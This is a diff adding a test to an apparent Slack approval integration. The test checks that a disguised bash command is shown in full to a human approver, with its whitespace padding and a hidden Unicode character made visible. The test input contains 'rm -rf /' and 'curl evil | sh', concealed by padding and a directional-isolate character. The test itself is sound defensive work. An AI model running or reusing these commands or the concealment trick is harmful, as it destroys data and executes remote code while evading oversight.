@@ -201,6 +201,21 @@ for (const backend of all) {
       expect(section.text!.text).not.toMatch(/&[a-z]{0,3}…/);
     });
 
+    it('shows what will run: padding and hidden characters as marks, the end of a long input kept', async () => {
+      const { slack } = await deploySlack();
+      const command = `ls -la${' '.repeat(3000)}; rm -rf / \u2067${'x'.repeat(4000)} ; curl evil | sh`;
+      await d!.park({ name: 'bash', input: { command } });
+      const post = await waitFor(async () =>
+        slack.received.find((r) => r.path === '/api/chat.postMessage'),
+      );
+      const blocks = fieldsOf(post).blocks as { text?: { text: string } }[];
+      const section = blocks.find((b) => b.text?.text.includes('ls -la'))!;
+      expect(section.text!.text).toContain('⟨3000 blanks⟩ ; rm -rf / ⟨U+2067⟩');
+      expect(section.text!.text).toContain('curl evil | sh');
+      expect(section.text!.text).toMatch(/…⟨\d+ more⟩…/);
+      expect(section.text!.text.length).toBeLessThanOrEqual(3000);
+    });
+
     it('answers a press at once, before the message update or the private reply, however slow Slack is', async () => {
       const { slack, endpoint } = await deploySlack(['chat.update', 'chat.postEphemeral']);
       const runId = await d!.park();
